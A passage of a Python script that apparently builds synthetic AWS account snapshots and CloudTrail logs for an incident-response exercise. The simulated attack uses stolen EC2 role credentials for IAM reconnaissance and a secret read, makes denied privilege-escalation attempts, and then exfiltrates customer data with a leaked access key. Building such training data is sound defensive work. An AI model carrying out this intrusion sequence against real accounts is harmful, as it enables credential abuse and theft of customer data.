            row += [v(c["password_last_used"]), v(c["password_last_changed"]), "N/A"]
        else:
            row += ["N/A", "N/A", "N/A"]
        row.append(v(c["mfa"]))
        for i in range(2):
            if i < len(c["keys"]):
                rotated, used, region, service = c["keys"][i]
                row += ["true", v(rotated), v(used), v(region), v(service)]
            else:
                row += ["false", "N/A", "N/A", "N/A", "N/A"]
        row += ["false", "N/A", "false", "N/A"]
        rows.append(row)
    return "\n".join(",".join(r) for r in rows)


def organizations_snapshot(tree: Tree) -> None:
    d = "global/organizations"
    org_arn = lambda kind, rest: f"arn:aws:organizations::{MGMT_ACCOUNT}:{kind}/{ORG_ID}/{rest}"
    ptypes = [{"Type": "SERVICE_CONTROL_POLICY", "Status": "ENABLED"}, {"Type": "RESOURCE_CONTROL_POLICY", "Status": "ENABLED"}]
    tree.json(f"{d}/describe-organization.json", {"Organization": {
        "Id": ORG_ID, "Arn": f"arn:aws:organizations::{MGMT_ACCOUNT}:organization/{ORG_ID}", "FeatureSet": "ALL",
        "MasterAccountArn": org_arn("account", MGMT_ACCOUNT), "MasterAccountId": MGMT_ACCOUNT,
        "MasterAccountEmail": "aws-root@acme-corp.example",
        "AvailablePolicyTypes": [{"Type": "SERVICE_CONTROL_POLICY", "Status": "ENABLED"}]}})
    tree.json(f"{d}/list-roots.json", {"Roots": [{"Id": ROOT_ID, "Arn": org_arn("root", ROOT_ID), "Name": "Root",
                                                  "PolicyTypes": ptypes}]})
    ous = [(OU_WORKLOADS, "Workloads"), (OU_SANDBOX, "Sandbox")]
    accounts = [  # id, name, email, parent, joined method, joined
        (MGMT_ACCOUNT, "acme-management", "aws-root@acme-corp.example", None, "INVITED", utc(2024, 1, 10, 8, 12, 44, 815000)),
        (ACCOUNT, "acme-prod", "aws-prod@acme-corp.example", OU_WORKLOADS, "CREATED", utc(2024, 1, 15, 8, 59, 31, 102000)),
        (SANDBOX_ACCOUNT, "acme-sandbox", "aws-sandbox@acme-corp.example", OU_SANDBOX, "CREATED",
         utc(2024, 3, 2, 13, 40, 6, 557000)),
    ]
    tree.json(f"{d}/list-accounts.json", {"Accounts": [
        {"Id": aid, "Arn": org_arn("account", aid), "Email": email, "Name": name, "Status": "ACTIVE", "State": "ACTIVE",
         "Paths": [f"{ORG_ID}/{ROOT_ID}/" + (f"{parent}/" if parent else "") + f"{aid}/"], "JoinedMethod": how,
         "JoinedTimestamp": cli_ts(joined)}
        for aid, name, email, parent, how, joined in accounts]})
    tree.json(f"{d}/{ROOT_ID}/list-organizational-units-for-parent.json", {"OrganizationalUnits": [
        {"Id": oid, "Arn": org_arn("ou", oid), "Name": name, "Path": f"{ORG_ID}/{ROOT_ID}/{oid}/"} for oid, name in ous]})

    every_target = ([{"TargetId": ROOT_ID, "Arn": org_arn("root", ROOT_ID), "Name": "Root", "Type": "ROOT"}]
                    + [{"TargetId": oid, "Arn": org_arn("ou", oid), "Name": name, "Type": "ORGANIZATIONAL_UNIT"}
                       for oid, name in ous]
                    + [{"TargetId": aid, "Arn": org_arn("account", aid), "Name": name, "Type": "ACCOUNT"}
                       for aid, name, *_ in accounts])
    scp_content = {"Version": "2012-10-17", "Statement": [
        {"Sid": "DenyLeaveOrganization", "Effect": "Deny", "Action": "organizations:LeaveOrganization", "Resource": "*"},
        {"Sid": "ProtectSecurityServices", "Effect": "Deny",
         "Action": ["guardduty:DeleteDetector", "guardduty:DisassociateFromAdministratorAccount", "guardduty:UpdateDetector",
                    "securityhub:DisableSecurityHub", "config:DeleteConfigurationRecorder",
                    "config:StopConfigurationRecorder"],
         "Resource": "*",
         "Condition": {"ArnNotLike": {"aws:PrincipalArn": "arn:aws:iam::*:role/OrganizationAccountAccessRole"}}}]}
    policies = {  # id -> (type, name, description, aws managed, arn, content, targets)
        "p-FullAWSAccess": ("SERVICE_CONTROL_POLICY", "FullAWSAccess", "Allows access to every operation", True,
                            "arn:aws:organizations::aws:policy/service_control_policy/p-FullAWSAccess",
                            org_pretty({"Version": "2012-10-17", "Statement": [
                                {"Effect": "Allow", "Action": "*", "Resource": "*"}]}), every_target),
        SCP_DENY_LEAVE: ("SERVICE_CONTROL_POLICY", "deny-leave-org",
                         "Deny leaving the organization and turning off security services", False,
                         f"arn:aws:organizations::{MGMT_ACCOUNT}:policy/{ORG_ID}/service_control_policy/{SCP_DENY_LEAVE}",
                         org_pretty(scp_content), every_target[:1]),
        "p-RCPFullAWSAccess": ("RESOURCE_CONTROL_POLICY", "RCPFullAWSAccess", "Allows access to every resource", True,
                               "arn:aws:organizations::aws:policy/resource_control_policy/p-RCPFullAWSAccess",
                               org_pretty({"Version": "2012-10-17", "Statement": [
                                   {"Effect": "Allow", "Principal": "*", "Action": "*", "Resource": "*"}]}), every_target),
    }
    for ptype in ("SERVICE_CONTROL_POLICY", "RESOURCE_CONTROL_POLICY"):
        summaries = [{"Id": pid, "Arn": p[4], "Name": p[1], "Description": p[2], "Type": p[0], "AwsManaged": p[3]}
                     for pid, p in policies.items() if p[0] == ptype]
        tree.json(f"{d}/list-policies-{ptype}.json", {"Policies": summaries})
    for pid, (ptype, name, desc, managed, arn, content, targets) in policies.items():
        tree.json(f"{d}/{pid}/describe-policy.json", {"Policy": {
            "PolicySummary": {"Id": pid, "Arn": arn, "Name": name, "Description": desc, "Type": ptype, "AwsManaged": managed},
            "Content": content}})
        tree.json(f"{d}/{pid}/list-targets-for-policy.json", {"Targets": targets})


def account_snapshot(tree: Tree) -> None:
    # taken by alice from the office the day after the incident
    tree.json("account.json", {"UserId": USER_ID["alice"], "Account": ACCOUNT, "Arn": user_arn("alice")})


# ---------------------------------------------------------------------------------------------
# Logs: shared helpers
# ---------------------------------------------------------------------------------------------
class Rand(random.Random):
    """random.Random with the few helpers the logs need; seeded with a fixed string per log."""

    def __init__(self, stream: str) -> None:
        super().__init__(f"keyaki-incident-3tier-{stream}")

    def uuid(self) -> str:
        return str(uuid.UUID(int=self.getrandbits(128), version=4))

    def hex(self, n: int) -> str:
        return "".join(self.choice("0123456789abcdef") for _ in range(n))

    def chars(self, n: int, alphabet: str = "ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789") -> str:
        return "".join(self.choice(alphabet) for _ in range(n))

    def seconds(self, lo: float, hi: float) -> dt.timedelta:
        return dt.timedelta(microseconds=self.randrange(int(lo * 1e6), int(hi * 1e6) + 1))

    def exp_gap(self, per_hour: float) -> dt.timedelta:
        return dt.timedelta(seconds=-math.log(1.0 - self.random()) * 3600.0 / per_hour)

    def public_ip(self) -> str:
        # residential and hosting ranges; never private, reserved, documentation or AWS ranges used above
        first = self.choice([24, 31, 37, 45, 62, 66, 71, 73, 76, 81, 86, 88, 92, 98, 101, 109, 112, 151, 174, 176, 185,
                             188, 189, 201])
        return f"{first}.{self.randrange(1, 255)}.{self.randrange(0, 256)}.{self.randrange(1, 255)}"


def five_min_window(t: dt.datetime) -> dt.datetime:
    return t.replace(minute=t.minute - t.minute % 5, second=0, microsecond=0)


PHP_SDK_UA = "aws-sdk-php/3.336.2 ua/2.1 OS/Linux#6.1.155-176.282.amzn2023.x86_64 lang/php#8.3.16 GuzzleHttp/7 m/N,b"
BOB_CLI_UA = ("aws-cli/2.22.35 md/awscrt#0.23.8 ua/2.1 os/macos#24.3.0 md/arch#arm64 lang/python#3.12.9 "
              "md/pyimpl#CPython cfg/retry-mode#standard md/installer#source md/prompt#off")
CI_CLI_UA = ("aws-cli/2.27.50 md/awscrt#0.26.1 ua/2.1 os/linux#6.8.0-1029-generic md/arch#x86_64 lang/python#3.13.4 "
             "md/pyimpl#CPython exec-env/CI cfg/retry-mode#standard md/installer#exe md/distrib#ubuntu.24 md/prompt#off")
BROWSER_UA = "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/145.0.0.0 Safari/537.36"
CI_RUNNER_IP = "34.229.77.12"


# ---------------------------------------------------------------------------------------------
# CloudTrail
# ---------------------------------------------------------------------------------------------
class Who:
    """Who made a call: the userIdentity block, where from, with what, and how the UA is extended."""

    def __init__(self, identity: dict, ip: str, ua: str, *, cli: str | None = None, console: bool = False,
                 service: str | None = None) -> None:
        self.identity, self.ip, self.ua, self.cli, self.console, self.service = identity, ip, ua, cli, console, service

    def user_agent(self, source: str, command: str | None) -> str:
        ua = self.ua
        if self.cli == "v2-old" and command:
            ua = f"{ua} command/{command}"
        elif self.cli == "v2-new" and command:
            ua = f"{ua} md/command#{command}"
        if source == "s3.amazonaws.com" and not self.service:
            ua = f"[{ua}]"
        return ua


def iam_user_identity(user: str, key: str | None = None, *, console_created: dt.datetime | None = None) -> dict:
    ui = {"type": "IAMUser", "principalId": USER_ID[user], "arn": user_arn(user), "accountId": ACCOUNT}
    if key is not None:
        ui["accessKeyId"] = key
    ui["userName"] = user
    if console_created is not None:
        ui["sessionContext"] = {"sessionIssuer": {}, "webIdFederationData": {},
                                "attributes": {"creationDate": ct_ts(console_created), "mfaAuthenticated": "true"}}
    return ui


def role_identity(role: str, session: str, key: str, created: dt.datetime, *, mfa: bool = False,
                  ec2: bool = False, invoked_by: str | None = None) -> dict:
    ui = {"type": "AssumedRole", "principalId": f"{ROLE_ID[role]}:{session}",
          "arn": f"arn:aws:sts::{ACCOUNT}:assumed-role/{role}/{session}", "accountId": ACCOUNT, "accessKeyId": key,
          "sessionContext": {
              "sessionIssuer": {"type": "Role", "principalId": ROLE_ID[role], "arn": rarn(role), "accountId": ACCOUNT,
                                "userName": role},
              "webIdFederationData": {},
              "attributes": {"creationDate": ct_ts(created), "mfaAuthenticated": "true" if mfa else "false"}}}
    if ec2:
        ui["sessionContext"]["ec2RoleDelivery"] = "1.0"
    if invoked_by:
        ui["invokedBy"] = invoked_by
    return ui


def host_header(source: str, params: dict | None) -> str:
    svc = source.split(".")[0]
    if svc == "s3":
        if params and "bucketName" in params:
            return f"{params['bucketName']}.s3.{REGION}.amazonaws.com"
        return f"s3.{REGION}.amazonaws.com"
    if svc in ("iam",):
        return "iam.amazonaws.com"
    if svc == "signin":
        return "signin.aws.amazon.com"
    return f"{svc}.{REGION}.amazonaws.com"


READ_PREFIXES = ("Get", "List", "Describe", "Lookup", "Head", "Check")


class Trail:
    """Builds CloudTrail records in the documented shape and key order."""

    def __init__(self) -> None:
        self.rng = Rand("cloudtrail")
        self.records: list[dict] = []

    def s3_request_id(self) -> str:
        return self.rng.chars(16)

    def add(self, t: dt.datetime, who: Who, source: str, name: str, *, params=None, resp=None, err=None,
            readonly: bool | None = None, resources=None, data: bool = False, additional=None, command=None,
            vpce: str | None = None, version: str = "1.09", event_type: str = "AwsApiCall",
            request_id: bool = True, shared: bool = False) -> dict:
        r: dict = {"eventVersion": version, "userIdentity": who.identity, "eventTime": ct_ts(t), "eventSource": source,
                   "eventName": name, "awsRegion": REGION,
                   "sourceIPAddress": who.service or who.ip,
                   "userAgent": who.service or who.user_agent(source, command)}
        if err:
            r["errorCode"], r["errorMessage"] = err
        r["requestParameters"] = params
        r["responseElements"] = resp
        if source == "s3.amazonaws.com" and additional is None:
            additional = {"SignatureVersion": "SigV4", "CipherSuite": "TLS_AES_128_GCM_SHA256", "bytesTransferredIn": 0,
                          "AuthenticationMethod": "AuthHeader",
                          "x-amz-id-2": base64.b64encode(self.rng.randbytes(56)).decode(), "bytesTransferredOut": 0}
        if additional is not None:
            r["additionalEventData"] = additional
        if request_id:
            r["requestID"] = self.s3_request_id() if source == "s3.amazonaws.com" else self.rng.uuid()
        r["eventID"] = self.rng.uuid()
        r["readOnly"] = name.startswith(READ_PREFIXES) if readonly is None else readonly
        if resources is not None:
            r["resources"] = resources
        r["eventType"] = event_type
        r["managementEvent"] = not data
        r["recipientAccountId"] = ACCOUNT
        if shared:
            r["sharedEventID"] = self.rng.uuid()
        if vpce:
            r["vpcEndpointId"] = vpce
            r["vpcEndpointAccountId"] = ACCOUNT
        r["eventCategory"] = "Data" if data else "Management"
        if not who.service and event_type != "AwsServiceEvent":
            r["tlsDetails"] = {"tlsVersion": "TLSv1.3", "cipherSuite": "TLS_AES_128_GCM_SHA256",
                               "clientProvidedHostHeader": host_header(source, params)}
        if who.console:
            r["sessionCredentialFromConsole"] = "true"
        self.records.append(r)
        return r

    # -- event helpers ------------------------------------------------------------------------
    def assume_role_by_service(self, t: dt.datetime, service: str, role: str, session: str, key: str,
                               duration_h: int = 6) -> None:
        who = Who({"type": "AWSService", "invokedBy": service}, service, service, service=service)
        self.add(t, who, "sts.amazonaws.com", "AssumeRole", version="1.08",
                 params={"roleArn": rarn(role), "roleSessionName": session},
                 resp={"credentials": {"accessKeyId": key, "sessionToken": session_token(key),
                                       "expiration": java_date(t + dt.timedelta(hours=duration_h), comma=True)}},
                 readonly=True, resources=[{"accountId": ACCOUNT, "type": "AWS::IAM::Role", "ARN": rarn(role)}],
                 shared=True)

    def assume_role(self, t: dt.datetime, who: Who, role: str, session: str, key: str, *, command: str,
                    mfa_serial: str | None = None) -> None:
        params = {"roleArn": rarn(role), "roleSessionName": session}
        if mfa_serial:
            params["serialNumber"] = mfa_serial
        self.add(t, who, "sts.amazonaws.com", "AssumeRole", command=command, params=params,
                 resp={"credentials": {"accessKeyId": key, "sessionToken": session_token(key),
                                       "expiration": java_date(t + dt.timedelta(hours=1), comma=True)},
                       "assumedRoleUser": {"assumedRoleId": f"{ROLE_ID[role]}:{session}",
                                           "arn": f"arn:aws:sts::{ACCOUNT}:assumed-role/{role}/{session}"}},
                 readonly=True, resources=[{"accountId": ACCOUNT, "type": "AWS::IAM::Role", "ARN": rarn(role)}])

    def s3_object(self, t: dt.datetime, who: Who, name: str, key: str, size: int, *, command: str,
                  denied: bool = False, vpce: str | None = None) -> None:
        params = {"bucketName": DATA_BUCKET, "Host": f"{DATA_BUCKET}.s3.{REGION}.amazonaws.com", "key": key}
        additional = {"SignatureVersion": "SigV4", "CipherSuite": "TLS_AES_128_GCM_SHA256", "bytesTransferredIn": 0}
        if not denied:
            additional["SSEApplied"] = "SSE_KMS"
        additional.update({"AuthenticationMethod": "AuthHeader",
                           "x-amz-id-2": base64.b64encode(self.rng.randbytes(56)).decode(),
                           "bytesTransferredOut": 243 if denied else size})
        self.add(t, who, "s3.amazonaws.com", name, params=params, resp=None, data=True, command=command,
                 err=("AccessDenied", "Access Denied") if denied else None, additional=additional, vpce=vpce,
                 resources=[{"type": "AWS::S3::Object", "ARN": f"arn:aws:s3:::{DATA_BUCKET}/{key}"},
                            {"accountId": ACCOUNT, "type": "AWS::S3::Bucket", "ARN": f"arn:aws:s3:::{DATA_BUCKET}"}])

    def s3_list(self, t: dt.datetime, who: Who, prefix: str, out_bytes: int, *, command: str,
                vpce: str | None = None) -> None:
        params = {"list-type": "2", "bucketName": DATA_BUCKET, "encoding-type": "url", "prefix": prefix,
                  "Host": f"{DATA_BUCKET}.s3.{REGION}.amazonaws.com"}
        additional = {"SignatureVersion": "SigV4", "CipherSuite": "TLS_AES_128_GCM_SHA256", "bytesTransferredIn": 0,
                      "AuthenticationMethod": "AuthHeader",
                      "x-amz-id-2": base64.b64encode(self.rng.randbytes(56)).decode(), "bytesTransferredOut": out_bytes}
        self.add(t, who, "s3.amazonaws.com", "ListObjects", params=params, data=True, command=command,
                 additional=additional, vpce=vpce,
                 resources=[{"accountId": ACCOUNT, "type": "AWS::S3::Bucket", "ARN": f"arn:aws:s3:::{DATA_BUCKET}"}])

    def console_login(self, t: dt.datetime, identity: dict, ip: str, mfa_identifier: str | None) -> None:
        """CheckMfa then ConsoleLogin, as the sign-in service records a password + virtual MFA login."""
        who = Who(identity, ip, BROWSER_UA)
        check = {k: identity[k] for k in ("type", "principalId", "accountId")} | {"accessKeyId": ""}
        if "userName" in identity:
            check["userName"] = identity["userName"]
        self.add(t - dt.timedelta(seconds=5), Who(check, ip, BROWSER_UA),
                 "signin.amazonaws.com", "CheckMfa", resp={"CheckMfa": "Success"},
                 additional={"MfaType": "Virtual MFA"}, readonly=False, event_type="AwsConsoleSignIn",
                 version="1.08", request_id=False)
        additional = {"LoginTo": "https://console.aws.amazon.com/console/home?hashArgs=%23&isauthcode=true&state=hashArgsFromTB_us-east-1",
                      "MobileVersion": "No", "MFAUsed": "Yes"}
        if mfa_identifier:
            additional["MFAIdentifier"] = mfa_identifier
        self.add(t, who, "signin.amazonaws.com", "ConsoleLogin", resp={"ConsoleLogin": "Success"}, additional=additional,
                 readonly=False, event_type="AwsConsoleSignIn", version="1.08", request_id=False)


# the stolen credentials and the keys the attacker made
STOLEN_ISSUED = utc(2026, 3, 12, 8, 52, 17)
STOLEN_KEY = access_key_id("ASIA", "web-1-" + STOLEN_ISSUED.isoformat())
DEV_SESSION = "batch-sync"
DEV_ASSUMED = utc(2026, 3, 12, 9, 33, 2)
DEV_KEY = access_key_id("ASIA", "developer-role-batch-sync")
CUSTOMER_OBJECTS = [f"customers/2026-03/part-{i:05d}.csv.gz" for i in range(96)] + \
                   [f"exports/customers-full-2026-03-0{d}.csv.gz" for d in range(1, 10)] + \
                   ["exports/customers-full-2026-03-10.csv.gz", "exports/customers-full-2026-03-11.csv.gz",
                    "exports/cards-tokenised-2026-03.csv.gz", "exports/loyalty-members.csv.gz"]


def ec2_refresh_times(anchor: dt.datetime, step_s: int) -> list[dt.datetime]:
    """Instance-profile credentials are renewed about every hour (anchor = one of the renewals)."""
    t = anchor
    while t > CT_START - dt.timedelta(hours=1):
        t -= dt.timedelta(seconds=step_s)
    out = []
    while t < CT_END:
        out.append(t)
        t += dt.timedelta(seconds=step_s)
    return out


def cloudtrail_log(trail: Trail) -> None:
    rng = trail.rng
    role_sessions: dict[str, list[tuple[dt.datetime, str]]] = {}

    # ---- background: AWS services ---------------------------------------------------------
    for inst, anchor, step in (("web-1", STOLEN_ISSUED, 3637), ("web-2", utc(2026, 3, 12, 8, 21, 44), 3611)):
        for t in ec2_refresh_times(anchor, step):
            key = access_key_id("ASIA", f"{inst}-{t.isoformat()}")
            role_sessions.setdefault(inst, []).append((t, key))
            if t >= CT_START:
                trail.assume_role_by_service(t, "ec2.amazonaws.com", "web-server-role", INSTANCE_ID[inst], key)
    assert (STOLEN_ISSUED, STOLEN_KEY) in role_sessions["web-1"], "the stolen key must be a web-1 renewal"

    def web_role(inst: str, t: dt.datetime) -> Who:
        issued, key = max((x for x in role_sessions[inst] if x[0] <= t), key=lambda x: x[0])
        return Who(role_identity("web-server-role", INSTANCE_ID[inst], key, issued, ec2=True), EIP["nat"][0], PHP_SDK_UA)

    config_sessions: list[tuple[dt.datetime, str]] = []
    t = utc(2026, 3, 12, 0, 4, 51)
    while t < CT_END:
        key = access_key_id("ASIA", f"config-{t.isoformat()}")
        config_sessions.append((t, key))
        trail.assume_role_by_service(t, "config.amazonaws.com", "AWSServiceRoleForConfig", "AWSConfig-Describe", key, 1)
        t += dt.timedelta(minutes=60, seconds=12)

    def config_who(t: dt.datetime) -> Who:
        issued, key = max((x for x in config_sessions if x[0] <= t), key=lambda x: x[0])
        return Who(role_identity("AWSServiceRoleForConfig", "AWSConfig-Describe", key, issued,
                                 invoked_by="config.amazonaws.com"), "", "", service="config.amazonaws.com")

    for i, t in enumerate(config_sessions):
        at = t[0] + dt.timedelta(minutes=7, seconds=13)
        trail.add(at, config_who(at), "ec2.amazonaws.com", "DescribeInstances",
                  params={"instancesSet": {}, "filterSet": {}, "maxResults": 1000})
        trail.add(at + dt.timedelta(seconds=2), config_who(at), "ec2.amazonaws.com", "DescribeSecurityGroups",
                  params={"securityGroupSet": {}, "securityGroupIdSet": {}, "filterSet": {}})

    cloudtrail_svc = Who({"type": "AWSService", "invokedBy": "cloudtrail.amazonaws.com"}, "", "",
                         service="cloudtrail.amazonaws.com")
    t = utc(2026, 3, 12, 0, 17, 2)
    while t < CT_END:
        trail.add(t, cloudtrail_svc, "s3.amazonaws.com", "GetBucketAcl", version="1.08",
                  params={"bucketName": TRAIL_BUCKET, "Host": f"{TRAIL_BUCKET}.s3.{REGION}.amazonaws.com", "acl": ""},
                  resources=[{"accountId": ACCOUNT, "type": "AWS::S3::Bucket", "ARN": f"arn:aws:s3:::{TRAIL_BUCKET}"}],
                  shared=True)
        t += dt.timedelta(minutes=58, seconds=rng.randrange(0, 240))

    rotate = utc(2026, 3, 13, 10, 31, 5)
    trail.add(rotate, Who({"accountId": ACCOUNT, "invokedBy": "kms.amazonaws.com"}, "", "", service="kms.amazonaws.com"),
              "kms.amazonaws.com", "RotateKey", version="1.08", event_type="AwsServiceEvent", readonly=False,
              additional={"keyMaterialId": digest("key-material", "aws-s3").hex()}, request_id=False,
              resources=[{"accountId": ACCOUNT, "type": "AWS::KMS::Key", "ARN": kms_arn("aws-s3")}])

    # ---- background: the web application and its batch job --------------------------------
    for inst, first in (("web-1", utc(2026, 3, 12, 0, 3, 12)), ("web-2", utc(2026, 3, 12, 0, 41, 55))):
        t = first
        while t < CT_END:
            trail.add(t, web_role(inst, t), "secretsmanager.amazonaws.com", "GetSecretValue",
                      params={"secretId": SECRET_NAME})
            t += dt.timedelta(hours=2, seconds=rng.randrange(0, 600))
    batch_host = Who(iam_user_identity("batch-job", ACCESS_KEY["batch-job"]), INSTANCES["web-1"]["ip"], PHP_SDK_UA)
    t = utc(2026, 3, 12, 0, 0, 7)
    while t < CT_END:
        hour = f"orders/{t:%Y/%m/%d}/"
        trail.s3_list(t, batch_host, hour, 1800 + rng.randrange(0, 900), command=None, vpce=VPCE_S3)
        for n in range(rng.randrange(1, 3)):
            key = f"{hour}orders-{t:%H}{30 * (t.minute // 30):02d}-{n}.json"
            trail.s3_object(t + rng.seconds(0.3, 2.5), batch_host, "GetObject", key, rng.randrange(20_000, 90_000),
                            command=None, vpce=VPCE_S3)
        t += dt.timedelta(minutes=30)

    # ---- background: people ----------------------------------------------------------------
    def alice_console(login: dt.datetime) -> Who:
        key = access_key_id("ASIA", f"alice-console-{login.isoformat()}")
        return Who(iam_user_identity("alice", key, console_created=login), ALICE_IP, BROWSER_UA, console=True)

    a1 = utc(2026, 3, 12, 8, 31, 12)
    trail.console_login(a1, iam_user_identity("alice"), ALICE_IP, f"arn:aws:iam::{ACCOUNT}:mfa/alice")
    al = alice_console(a1)
    trail.add(a1 + dt.timedelta(seconds=48), al, "ec2.amazonaws.com", "DescribeInstances",
              params={"instancesSet": {}, "filterSet": {}})
    trail.add(a1 + dt.timedelta(minutes=1, seconds=3), al, "elasticloadbalancing.amazonaws.com", "DescribeTargetHealth",
              params={"targetGroupArn": TG_ARN})
    trail.add(a1 + dt.timedelta(minutes=2, seconds=40), al, "s3.amazonaws.com", "ListBuckets",
              params={"Host": f"s3.{REGION}.amazonaws.com"})
    trail.add(a1 + dt.timedelta(minutes=6, seconds=11), al, "rds.amazonaws.com", "DescribeDBInstances",
              params={"dBInstanceIdentifier": RDS_ID})

    bob = Who(iam_user_identity("bob", ACCESS_KEY["bob"]), BOB_IP, BOB_CLI_UA, cli="v2-new")
    for at, src, name, params, cmd in [
        (utc(2026, 3, 12, 8, 47, 3), "sts.amazonaws.com", "GetCallerIdentity", None, "sts.get-caller-identity"),
        (utc(2026, 3, 12, 8, 47, 20), "ec2.amazonaws.com", "DescribeInstances",
         {"instancesSet": {}, "filterSet": {"items": [{"name": "tag:Role", "valueSet": {"items": [{"value": "web"}]}}]}},
         "ec2.describe-instances"),
        (utc(2026, 3, 12, 8, 49, 2), "lambda.amazonaws.com", "GetFunction20150331v2", {"functionName": FUNCTION},
         "lambda.get-function"),
        (utc(2026, 3, 13, 9, 52, 0), "ec2.amazonaws.com", "DescribeInstances", {"instancesSet": {}, "filterSet": {}},
         "ec2.describe-instances"),
        (utc(2026, 3, 13, 9, 52, 31), "ec2.amazonaws.com", "DescribeSecurityGroups",
         {"securityGroupSet": {}, "securityGroupIdSet": {"items": [{"groupId": SG_ID["debug"]}]}, "filterSet": {}},
         "ec2.describe-security-groups"),
    ]:
        trail.add(at, bob, src, name, params=params, command=cmd)

    ci = Who(iam_user_identity("ci-deploy", ACCESS_KEY["ci-deploy-2"]), CI_RUNNER_IP, CI_CLI_UA, cli="v2-new")
    trail.add(utc(2026, 3, 12, 9, 46, 0), ci, "lambda.amazonaws.com", "GetFunction20150331v2",
              params={"functionName": FUNCTION}, command="lambda.get-function")
    trail.add(utc(2026, 3, 12, 9, 46, 31), ci, "lambda.amazonaws.com", "UpdateFunctionCode20150331v2",
              params={"functionName": FUNCTION, "publish": False, "dryRun": False},
              resp={"functionName": FUNCTION, "functionArn": FUNCTION_ARN, "runtime": "python3.12",
                    "role": rarn("thumbnailer-role"), "handler": "app.handler", "codeSize": 48213,
                    "lastModified": "2026-03-12T09:46:31.000+0000", "version": "$LATEST",
                    "revisionId": det_uuid("lambda-revision"), "lastUpdateStatus": "InProgress"},
              command="lambda.update-function-code")

    # ---- the attack -------------------------------------------------------------------------
    stolen = Who(role_identity("web-server-role", INSTANCE_ID["web-1"], STOLEN_KEY, STOLEN_ISSUED, ec2=True),
                 ATTACKER_WEB_IP, ATTACKER_CLI_UA, cli="v2-old")
    sarn = stolen.identity["arn"]

    def denied_iam(action: str, resource: str) -> tuple[str, str]:
        return ("AccessDenied", f"User: {sarn} is not authorized to perform: {action} on resource: {resource} "
                                f"because no identity-based policy allows the {action} action")

    recon = [  # (seconds after 09:14:03, source, name, params, command, error)
        (0, "sts.amazonaws.com", "GetCallerIdentity", None, "sts.get-caller-identity", None),
        (19, "iam.amazonaws.com", "ListUsers", None, "iam.list-users", None),
        (31, "iam.amazonaws.com", "ListRoles", None, "iam.list-roles", None),
        (44, "iam.amazonaws.com", "ListAttachedRolePolicies", {"roleName": "web-server-role"},
         "iam.list-attached-role-policies", None),
        (52, "iam.amazonaws.com", "ListRolePolicies", {"roleName": "web-server-role"}, "iam.list-role-policies", None),
        (61, "iam.amazonaws.com", "GetRolePolicy", {"roleName": "web-server-role", "policyName": "web-server-access"},
         "iam.get-role-policy", None),
        (95, "s3.amazonaws.com", "ListBuckets", {"Host": f"s3.{REGION}.amazonaws.com"}, "s3.ls",
         ("AccessDenied", "Access Denied")),
        (128, "ec2.amazonaws.com", "DescribeInstances", {"instancesSet": {}, "filterSet": {}}, "ec2.describe-instances", None),
        (141, "ec2.amazonaws.com", "DescribeSecurityGroups", {"securityGroupSet": {}, "securityGroupIdSet": {}, "filterSet": {}},
         "ec2.describe-security-groups", None),
        (157, "ec2.amazonaws.com", "DescribeVpcs", {"vpcSet": {}, "filterSet": {}}, "ec2.describe-vpcs", None),
        (217, "iam.amazonaws.com", "GetAccountAuthorizationDetails", None, "iam.get-account-authorization-details", None),
        (250, "iam.amazonaws.com", "ListPolicies", None, "iam.list-policies", None),
        (268, "iam.amazonaws.com", "GetAccountSummary", None, "iam.get-account-summary", None),
        (290, "organizations.amazonaws.com", "DescribeOrganization", None, "organizations.describe-organization",
         ("AccessDeniedException", "You don't have permissions to access this resource.")),
        (305, "guardduty.amazonaws.com", "ListDetectors", None, "guardduty.list-detectors",
         ("AccessDeniedException", f"User: {sarn} is not authorized to perform: guardduty:ListDetectors on resource: "
          f"arn:aws:guardduty:{REGION}:{ACCOUNT}:detector/* because no identity-based policy allows the "
          f"guardduty:ListDetectors action")),
        (318, "cloudtrail.amazonaws.com", "DescribeTrails", {"trailNameList": [], "includeShadowTrails": True},
         "cloudtrail.describe-trails",
         ("AccessDeniedException", f"User: {sarn} is not authorized to perform: cloudtrail:DescribeTrails on resource: "
          f"arn:aws:cloudtrail:{REGION}:{ACCOUNT}:trail/* because no identity-based policy allows the "
          f"cloudtrail:DescribeTrails action")),
        (336, "secretsmanager.amazonaws.com", "ListSecrets", None, "secretsmanager.list-secrets",
         ("AccessDeniedException", f"User: {sarn} is not authorized to perform: secretsmanager:ListSecrets because no "
          f"identity-based policy allows the secretsmanager:ListSecrets action")),
        (379, "secretsmanager.amazonaws.com", "GetSecretValue", {"secretId": SECRET_NAME},
         "secretsmanager.get-secret-value", None),
        (412, "iam.amazonaws.com", "CreateUser", {"userName": "ops-support"}, "iam.create-user",
         denied_iam("iam:CreateUser", user_arn("ops-support"))),
        (430, "iam.amazonaws.com", "ListAccessKeys", {"userName": "batch-job"}, "iam.list-access-keys", None),
        (472, "iam.amazonaws.com", "GetRole", {"roleName": "developer-role"}, "iam.get-role", None),
        (488, "iam.amazonaws.com", "GetPolicyVersion",
         {"policyArn": policy_arn("developer-policy"), "versionId": "v1"}, "iam.get-policy-version", None),
        (540, "iam.amazonaws.com", "AttachRolePolicy",
         {"roleName": "web-server-role", "policyArn": aws_policy_arn("AdministratorAccess")}, "iam.attach-role-policy",
         denied_iam("iam:AttachRolePolicy", rarn("web-server-role"))),
    ]
    base = utc(2026, 3, 12, 9, 14, 3)
    for sec, src, name, params, cmd, err in recon:
        trail.add(base + dt.timedelta(seconds=sec), stolen, src, name, params=params, command=cmd, err=err)
    trail.s3_object(base + dt.timedelta(seconds=104), stolen, "GetObject", "exports/customers-full-2026-03-11.csv.gz", 0,
                    command="s3.cp", denied=True)

    # the batch-job key from the web root, used from a second host
    bj = Who(iam_user_identity("batch-job", ACCESS_KEY["batch-job"]), ATTACKER_VPS_IP, ATTACKER_CLI_UA, cli="v2-old")
    trail.add(utc(2026, 3, 12, 9, 31, 10), bj, "sts.amazonaws.com", "GetCallerIdentity", command="sts.get-caller-identity")
    trail.s3_list(utc(2026, 3, 12, 9, 31, 45), bj, "", 41_233, command="s3.ls")
    trail.s3_object(utc(2026, 3, 12, 9, 32, 2), bj, "GetObject", "customers/2026-03/part-00000.csv.gz", 6_118_402,
                    command="s3.cp")
    trail.add(utc(2026, 3, 12, 9, 32, 30), bj, "iam.amazonaws.com", "ListAttachedUserPolicies",
              params={"userName": "batch-job"}, command="iam.list-attached-user-policies",
